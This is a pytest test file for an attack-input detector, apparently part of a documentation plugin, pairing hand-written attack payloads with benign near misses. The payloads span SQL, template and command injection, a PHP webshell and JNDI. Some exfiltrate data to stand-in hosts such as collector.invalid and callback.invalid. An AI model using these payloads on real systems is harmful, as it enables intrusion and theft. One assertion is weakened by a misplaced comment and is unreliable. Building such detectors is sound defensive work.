"""_payloads: each attack-input family finds its hand-written inputs and leaves near misses
(documentation, ordinary code) alone; the scan is linear."""

from __future__ import annotations

import time

import pytest

from mkdocs_threatpub.scanners.detectors._payloads import FAMILIES, attack_inputs, family

POSITIVES = [
    ("sqli", "id=-7 UNION ALL SELECT NULL,user(),NULL-- -"),
    ("sqli", "name=zz' AND SLEEP(4)-- x"),
    ("sqli", "q=1;SELECT name FROM sqlite_master"),
    ("nosqli", "login[$ne]=nobody&pw[$ne]=nobody"),
    ("nosqli", '{"user": {"$gt": ""}, "pw": {"$gt": ""}}'),
    ("xpath", "name=' or '1'='1&pw=x"),
    ("xpath", "x' and string-length(name(/*[1]))=4 and '1'='1"),
    ("ldapi", "uid=*)(|(cn=*"),
    ("xss", "<video><source onerror=alert(7)>"),
    ("xss", "<iframe src=javascript:alert(document.domain)>"),
    ("ssti", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
    ("ssti", '<#assign r="freemarker.template.utility.Execute"?new()>${r("id")}'),
    ("ssti", "{{['id']|filter('system')}}"),
    ("el", "%{(#p=@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("el", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("angular", "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join}}"),
    ("angular", "{{constructor.constructor('alert(2)')()}}"),
    ("cmdi", "host=127.0.0.1;id"),
    ("cmdi", "require('child_process').execSync('uname -a')"),
    ("cmdi", "ip=1.1.1.1${IFS}&&${IFS}cat${IFS}/etc/hosts"),
    ("deser", '{"f":"_$$ND_FUNC$$_function(){return 1}()"}'),
    ("deser", 'O:4:"Evil":1:{s:3:"cmd";s:2:"id";}'),
    ("deser", "java -jar ysoserial.jar CommonsCollections5 'touch /tmp/p' > p.bin"),
    ("jndi", "X-Api-Version: ${jndi:ldap://callback.invalid/o}"),
    ("ssrf", "url=http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "url=gopher://127.0.0.1:6379/_INFO"),
    ("traversal", "file=....//....//....//etc/passwd"),
    ("traversal", "page=php://filter/convert.base64-encode/resource=index"),
    ("csv", '=HYPERLINK("http://collector.invalid/?d="&A1,"Open")'),
    ("csv", "=cmd|' /C notepad'!'A1'"),
    ("jwt", '{"alg":"none","typ":"JWT"}'),
    ("jwt", "python3 jwt_tool.py eyJ0.e30.x -X a"),
    ("clickjacking", '<iframe src="https://victim.invalid" style="opacity:0.0001;z-index:2">'),
    ("clickjacking", 'window.opener.location = "https://phish.invalid"'),
    ("scm", "curl https://site.invalid/.git/config"),
    ("scm", "./gitdumper.sh https://site.invalid/.git/ out"),
    ("zipslip", "python evilarc.py payload.php -o unix -d 5 -p var/www"),
    ("zipslip", "zf.writestr('../../../../tmp/x.sh', data)"),
    ("graphql", "query={__schema{types{name,fields{name}}}}"),
    ("xxe", '<!ENTITY % dtd SYSTEM "http://callback.invalid/e.dtd">'),
    ("proto", '{"__proto__": {"isAdmin": true}}'),
    ("upload", "GIF89a;<?php system($_GET['c']); ?>"),
    ("redirect", "/login?next=//evil.invalid"),
    ("crlf", "/%0d%0aSet-Cookie:sid=1"),
    ("csrf", '<body onload="document.forms[0].submit()">'),
    ("cssi", 'input[name=token][value^="a"] { background-image: url(https://x.invalid/?v=a); }'),
    ("typejuggling", "md5 of the input is 0e462097431906509019562988736854"),
    ("ormleak", "GET /api/users?password__startswith=a"),
    ("redos", "pattern ^(a+)+$ on aaaaaaaaaaaaaaaaaaaaaaaa!"),
    ("kernel", "commit_creds(prepare_kernel_cred(0));"),
    (
        "smuggling",
        "POST / HTTP/1.1\nContent-Length: 13\nTransfer-Encoding: chunked\n\n0\n\nSMUGGLED",
    ),
    ("tool", "ffuf -w words.txt -u https://site.invalid/FUZZ"),
]

NEGATIVES = [
    ("sqli", "SELECT name FROM users WHERE id = ? ORDER BY name"),
    ("sqli", "root to: 'static#home' # no authentication"),
    ("sqli", "text.split('#')"),
    ("nosqli", "db.users.find({ age: 30 })"),
    ("xpath", "//book[@lang='en']/title"),
    ("ldapi", "(&(objectClass=person)(uid=alice))"),
    ("xss", '<img src="logo.png" alt="logo">'),
    ("xss", "button.onclick = save;"),
    ("ssti", "<p>{{ user.name }}</p>"),
    ("el", "${user.name}"),
    ("angular", "class A { constructor() { super(); } }"),
    ("cmdi", "ls; ls -la; echo done"),
    ("cmdi", "The id field is returned; see id and whoami."),
    ("deser", "serialize the object with JSON.stringify"),
    ("jndi", "${project.version}"),
    ("ssrf", "curl https://api.example.com/v1/items"),
    ("traversal", "[Guide](../../../guide/index.md)"),
    ("csv", "total = SUM(A1:A9)"),
    ("jwt", '{"alg":"RS256","typ":"JWT"}'),
    ("clickjacking", '<iframe src="https://www.youtube-nocookie.com/embed/x" width="560">'),
    ("scm", "git clone https://github.com/org/repo.git"),
    ("zipslip", "zip -r site.zip public/"),
    ("graphql", "query { user(id: 1) { name } }"),
    ("xxe", "<!DOCTYPE html>"),
    ("proto", "Object.create(null)"),
    ("upload", "Upload a .png or .jpg file up to 2 MB."),
    ("redirect", "/login?next=/dashboard"),
    ("crlf", "lines end in CRLF (\\r\\n)"),
    ("csrf", '<form action="/search" method="get">'),
    ("cssi", "input[type=text] { border: 1px solid #ccc; }"),
    ("typejuggling", "version 0.10.2"),
    ("ormleak", "User.objects.filter(name__startswith='a')"),
    ("redos", "pattern ^[a-z]+$"),
    ("kernel", "the kernel credentials are checked"),
    ("tool", "Install ffuf from your package manager."),
]


@pytest.mark.parametrize(("key", "text"), POSITIVES)
def test_each_family_finds_its_inputs(key: str, text: str) -> None:
    found = {a.family.key for a in attack_inputs(text)}
    assert key in found, found


@pytest.mark.parametrize(("key", "text"), NEGATIVES)
def test_near_misses_are_not_inputs(key: str, text: str) -> None:
    found = {a.family.key for a in attack_inputs(text)}
    assert key not in found, found


def test_every_family_has_a_positive_and_a_negative_case() -> None:
    keys = {f.key for f in FAMILIES}
    assert keys == {k for k, _ in POSITIVES}
    assert keys - {"smuggling"}  # its near miss has its own test <= {k for k, _ in NEGATIVES}


def test_one_input_per_line_and_family_with_offset_and_line() -> None:
    text = "intro\nq=1' UNION SELECT 1,2-- - and UNION SELECT 3\né ${jndi:ldap://x.invalid/a}\n"
    found = [(a.line, a.family.key, text[a.offset : a.offset + 5]) for a in attack_inputs(text)]
    assert ("sqli", 1) in {(k, line) for line, k, _ in found}
    assert sum(1 for line, k, _ in found if k == "sqli") == 1  # two on the line, counted once
    jndi = [(line, head) for line, k, head in found if k == "jndi"]
    assert jndi == [(2, "${jnd")]  # character offsets, past a non-ASCII letter


def test_prose_skips_code_only_families() -> None:
    assert not list(attack_inputs("host=127.0.0.1;id", code=False))
    assert [a.family.key for a in attack_inputs("<svg onload=alert(1)>", code=False)] == ["xss"]


def test_smuggling_needs_both_length_headers() -> None:
    request = (
        "POST / HTTP/1.1\nHost: a.invalid\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n"
    )
    assert [a.family.key for a in attack_inputs(request)] == ["smuggling"]
    assert family("smuggling").per_block
    only_chunked = request.replace("Content-Length: 4\n", "")
    assert "smuggling" not in {a.family.key for a in attack_inputs(only_chunked)}


@pytest.mark.parametrize(
    "text",
    [
        "' " * 60_000,
        "{{" * 60_000,
        "${" * 60_000,
        "../" * 40_000,
        "[$ne]" * 20_000,
        "(a+" * 30_000,
        "<iframe " + " " * 100_000,
        "x" * 120_000,
        "\n".join(["=cmd|"] * 20_000),
    ],
    ids=["quotes", "braces", "dollar", "dots", "nosql", "regex", "iframe", "letters", "lines"],
)
def test_pathological_input_is_linear(text: str) -> None:
    start = time.perf_counter()
    for _ in attack_inputs(text):
        pass
    assert time.perf_counter() - start < 1.5
